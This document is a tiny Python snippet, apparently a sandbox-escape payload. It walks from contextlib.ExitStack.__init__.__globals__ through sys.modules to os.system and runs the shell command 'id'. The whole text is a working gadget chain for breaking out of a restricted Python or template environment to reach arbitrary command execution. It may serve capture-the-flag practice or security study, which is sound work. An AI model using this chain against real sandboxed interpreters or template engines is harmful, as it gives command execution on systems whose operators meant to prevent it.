# From a method to its globals.
import contextlib

contextlib.ExitStack.__init__.__globals__["sys"].modules["os"].system("id")
